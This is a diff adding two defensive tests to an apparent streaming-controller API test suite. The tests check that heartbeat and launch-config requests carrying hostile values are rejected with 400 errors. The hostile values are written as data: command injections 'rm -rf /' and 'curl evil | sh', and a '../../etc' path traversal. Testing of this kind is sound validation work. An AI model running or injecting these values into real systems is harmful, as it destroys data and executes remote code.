@@ -75,6 +75,21 @@ describe('the controller refuses bad requests with a 4xx and stays up', function
     assert.match(hook.body, /hook publish: 'name' must be one string/);
   });
 
+  it('a heartbeat is checked before it reaches the store: a bad address or figure is a 400 naming it, and no node is added', async () => {
+    const agentJson = { authorization: `Bearer ${c.agentToken}`, 'content-type': 'application/json' };
+    for (const [body, field] of [[{ nodeId: 'hb1', role: 'edge', address: '10.0.0.1; rm -rf /' }, /\$\.address/],
+      [{ nodeId: 'hb1', role: 'edge', system: { cpuLoadPercent: 'high' } }, /\$\.system\.cpuLoadPercent/],
+      [{ nodeId: 'hb1', role: 'transcoder', streams: [{ app: 'live', stream: '../../etc' }] }, /\$\.streams\[0\]\.stream/]] as const) {
+      const r = await raw(port, 'POST', '/api/v1/nodes/hb1/heartbeat', agentJson, JSON.stringify(body));
+      assert.equal(r.status, 400, r.body);
+      assert.match(r.body, field);
+    }
+    assert.equal(c.store.node('hb1'), undefined);
+    const ok = await raw(port, 'POST', '/api/v1/nodes/hb1/heartbeat', agentJson,
+      JSON.stringify({ nodeId: 'hb1', role: 'edge', system: { cpuLoadPercent: null }, connections: 3 }));
+    assert.equal(ok.status, 200, ok.body);
+  });
+
   it('a ladder that names a rendition twice is refused when the stream is created', async () => {
     const r = await fetch(`http://127.0.0.1:${port}/api/v1/streams`, { method: 'POST', headers: json,
       body: JSON.stringify({ app: 'live', stream: 'twice', mode: 'transcode',
@@ -82,6 +97,17 @@ describe('the controller refuses bad requests with a 4xx and stays up', function
     assert.equal(r.status, 400);
     assert.match(await r.text(), /ladder\[1\]\.name: 'r' is already the name of ladder\[0\]/);
   });
+
+  it('a launch config\'s instance type and image are refused unless made of safe characters (the provider\'s script takes them)',
+    async () => {
+      const config = JSON.parse(await fs.readFile(path.join(process.cwd(), 'launch-configs', 'lab.json'), 'utf8')) as
+        { launchconfig: { targets: { target: Array<{ instanceType: string }> } } };
+      const first = config.launchconfig.targets.target[0];
+      if (first) first.instanceType = 's-1vcpu; curl evil | sh';
+      const r = await fetch(`http://127.0.0.1:${port}/api/v1/launch-configs`, { method: 'POST', headers: json, body: JSON.stringify(config) });
+      assert.equal(r.status, 400);
+      assert.match(await r.text(), /target\[0\]\.instanceType: must match pattern/);
+    });
 
   it('the admin token only in the Authorization header, never in the URL', async () => {
     const r = await raw(port, 'GET', `/api/v1/streams?token=${ADMIN}`);
